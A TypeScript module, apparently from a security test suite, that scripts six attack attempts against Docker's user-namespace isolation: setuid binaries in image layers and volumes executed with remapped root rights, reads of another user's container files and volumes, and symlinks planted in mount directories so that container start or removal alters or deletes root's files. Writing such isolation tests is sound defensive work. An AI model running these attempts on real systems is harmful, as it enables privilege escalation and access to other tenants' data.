import { lstat, mkdir, readFile, stat, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { accompliceAttempts } from './attempt.ts';
import type { Agent } from './agent.ts';
import { AttemptBlocked, showsSecret } from './evidence.ts';
import { AT_FDCWD } from './linux.ts';
import { attacker, bobsSecret, canary, type Container } from './attack-setup.ts';
import type { AttackFixture } from './attack-fixture.ts';

const rangeSize = 65_536;
/** Number of next ranges for which an image is prepared: other users' containers take some meanwhile. */
const rangesAhead = 4;

/** The host id of a container's root. */
async function firstId(container: Container): Promise<number> {
  const map = await readFile(`/proc/${container.pid}/uid_map`, 'utf8');
  return Number(map.trim().split(/\s+/)[1]);
}

/**
 * Where a container's files may be outside: from its inspect response, which every user of the socket can
 * read, and from all mounts.
 */
async function placesOutside(fixture: AttackFixture, agent: Agent, name: string): Promise<string[]> {
  const output = await fixture.docker(
    attacker,
    'inspect',
    '-f',
    '{{range .GraphDriver.Data}}{{.}}\n{{end}}{{range .Mounts}}{{.Source}}\n{{end}}',
    name,
  );
  const mountinfo = await agent.call('openat', AT_FDCWD, '/proc/self/mountinfo', 0);
  let mounts = '';
  for (let part = ' '; part !== '';) mounts += part = await agent.read(mountinfo, 65_536);
  const points = mounts
    .split('\n')
    .map((line) => line.split(' ')[4] ?? '')
    .filter((point) => point.startsWith('/'));
  return [...new Set([...output.split(/[\n:]/).filter((place) => place.startsWith('/')), ...points])];
}

/** Reads `file` below the places where a container's files may be, until it has the wanted content. */
async function readBelow(
  agent: Agent,
  places: readonly string[],
  files: readonly string[],
): Promise<boolean> {
  for (const place of places) {
    for (const file of files) {
      const opened = await agent.try('openat', AT_FDCWD, path.join(place, file), 0);
      if (opened.value === -1) continue;
      if ((await agent.read(opened.value)).includes(bobsSecret)) return true;
      await agent.call('close', opened.value);
    }
  }
  throw new AttemptBlocked(`nothing of the container can be read at ${places.length} places`);
}

/** Whether a place belongs to volumes: by its name, or because it is no layer and no root of a container. */
const isOfVolume = (place: string) =>
  !/overlay2|\/(?:merged|rootfs|root|lower\d*|layers?)(?:\/|$)/.test(place);

interface SetuidImage {
  readonly container: Container;
  readonly range: Agent;
  readonly names: readonly string[];
}

/**
 * A container from an image whose setuid files are owned by every id that may be the first of its range, and
 * the process outside with the range's id: a file that a map shows as root's would be executed with root's
 * rights.
 */
async function withSetuidImage(fixture: AttackFixture): Promise<SetuidImage> {
  return fixture.once('setuid-image', async () => {
    const tool = await readFile(fixture.setup.tool);
    const base = await firstId(await fixture.container('range-before'));
    const owners = [0, ...Array.from({ length: rangesAhead }, (_, index) => base + index * rangeSize)];
    const names = owners.map((_, index) => `program-${index}`);
    const entries = names.flatMap((name, index) =>
      ['', 'v/'].map(
        (directory) =>
          ({
            name: `${directory}${name}`,
            type: 'file',
            mode: 0o6755,
            owner: owners[index] ?? 0,
            content: tool,
          }) as const,
      ),
    );
    const image = await fixture.image('setuid-image', entries, ['VOLUME /v']);
    const container = await fixture.container(
      'setuid-image',
      ['-v', 'setuid-image:/v'],
      [image, '/accomplice', 'serve', '/control.sock'],
    );
    return { container, names, range: await fixture.rangeUser(container, 'setuid-image-range') };
  });
}

/** Executes the programs below every place for which `isOf` holds, and has them read the canary. */
async function executeBelow(fixture: AttackFixture, isOf: (place: string) => boolean): Promise<boolean> {
  const { container, range, names } = await withSetuidImage(fixture);
  const outputs: string[] = [];
  for (const place of (await placesOutside(fixture, range, container.name)).filter(isOf)) {
    for (const name of names) {
      const file = path.join(place, name);
      const X_OK = 1;
      if ((await range.try('faccessat', AT_FDCWD, file, X_OK)).value !== 0) continue;
      const printed = await range.run(file, 'cat', fixture.secret);
      if (printed.includes(canary)) return true;
      outputs.push(printed);
    }
  }
  if (outputs.length === 0) throw new AttemptBlocked('no program of the image can be reached');
  return showsSecret(canary, outputs.join(''));
}

/** A directory of root's with a file in it. */
async function closedDirectory(fixture: AttackFixture, name: string): Promise<string> {
  const directory = path.join(fixture.closed, name);
  await mkdir(directory, { mode: 0o700 });
  await writeFile(path.join(directory, 'kept'), '', { mode: 0o600 });
  return directory;
}

/**
 * Replaces every entry of directories outside that belong to the container's mounts and that the range's id
 * may write to by a link to `target`. Rejects with `AttemptBlocked` if there are none.
 */
async function plantLinks(
  fixture: AttackFixture,
  range: Agent,
  container: string,
  target: string,
): Promise<void> {
  const id = await fixture.docker(attacker, 'inspect', '-f', '{{.Id}}', container);
  const above = (await placesOutside(fixture, range, container))
    .filter((place) => place.includes(id))
    .flatMap((place) => {
      const parts = place.split('/');
      const first = parts.findIndex((part) => part.includes(id));
      return parts.slice(first).map((_, index) => parts.slice(0, first + index + 1).join('/'));
    });
  let planted = 0;
  for (const directory of new Set(above)) {
    for (const name of above
      .filter((place) => path.dirname(place) === directory)
      .map((place) => path.basename(place))) {
      if (
        (
          await range.try(
            'renameat2',
            AT_FDCWD,
            path.join(directory, name),
            AT_FDCWD,
            path.join(directory, `old-${planted}`),
            0,
          )
        ).value !== 0
      )
        continue;
      await range.try('symlinkat', target, AT_FDCWD, path.join(directory, name));
      planted++;
    }
  }
  if (planted === 0) throw new AttemptBlocked("no directory of the container's mounts can be written to");
}

/**
 * A container of the attacker's with a bind and a volume, whose mounts are to be exchanged, and its range's
 * id outside.
 */
async function exchanged(fixture: AttackFixture, name: string): Promise<Agent> {
  const container = await fixture.container(name, ['-v', `${name}:/v`]);
  return fixture.rangeUser(container, `${name}-range`);
}

/** Waits for a command that may be refused: what it did is looked at afterwards. */
async function unlessRefused(command: Promise<unknown>): Promise<void> {
  await command.catch((error: unknown) => {
    if (!(error instanceof AttemptBlocked)) throw error;
  });
}

export const imageAttempts = accompliceAttempts([
  {
    id: 'setuid-in-layer',
    title:
      "setuid files of an image, owned by what the range's map makes root, " +
      "are executed outside by the range's id",
    attempt: (fixture) => executeBelow(fixture, (place) => !isOfVolume(place)),
  },
  {
    id: 'setuid-in-volume',
    title: "the same where the image's files were copied into a volume",
    attempt: (fixture) => executeBelow(fixture, (place) => isOfVolume(place)),
  },
  {
    id: 'layer-of-another-user',
    title: "the range's id outside reads a file of another user's container by any path",
    attempt: async (fixture) => {
      const range = await fixture.ranged();
      return readBelow(range, await placesOutside(fixture, range, 'bob'), [
        'secret',
        'merged/secret',
        'diff/secret',
      ]);
    },
  },
  {
    id: 'volume-of-another-user',
    title: "the same with a file in another user's volume",
    attempt: async (fixture) => {
      const range = await fixture.ranged();
      const places = (await placesOutside(fixture, range, 'bob')).filter(
        (place) => !/overlay2|merged/.test(place),
      );
      return readBelow(range, places, ['secret', '_data/secret']);
    },
  },
  {
    id: 'mounts-exchanged-at-start',
    title:
      "a link in the place of a container's mount directory opens a directory of root's at the next start",
    attempt: async (fixture) => {
      const range = await exchanged(fixture, 'exchanged-start');
      const target = await closedDirectory(fixture, 'opened-at-start');
      // On a bare engine the range's id is root's.
      if ((await range.try('fchmodat', AT_FDCWD, target, 0o711)).value !== 0) {
        await plantLinks(fixture, range, 'exchanged-start', target);
        await fixture.docker(attacker, 'stop', '-t', '0', 'exchanged-start');
        await unlessRefused(fixture.docker(attacker, 'start', 'exchanged-start'));
      }
      return ((await stat(target)).mode & 0o777) !== 0o700;
    },
  },
  {
    id: 'mounts-exchanged-at-remove',
    title: "a link in the place of a container's mount directory has files of root's deleted at docker rm",
    attempt: async (fixture) => {
      const range = await exchanged(fixture, 'exchanged-remove');
      const target = await closedDirectory(fixture, 'deleted-at-remove');
      if ((await range.try('unlinkat', AT_FDCWD, path.join(target, 'kept'), 0)).value !== 0) {
        await plantLinks(fixture, range, 'exchanged-remove', target);
        await unlessRefused(fixture.docker(attacker, 'rm', '-f', 'exchanged-remove'));
      }
      return lstat(path.join(target, 'kept')).then(
        () => false,
        () => true,
      );
    },
  },
]);
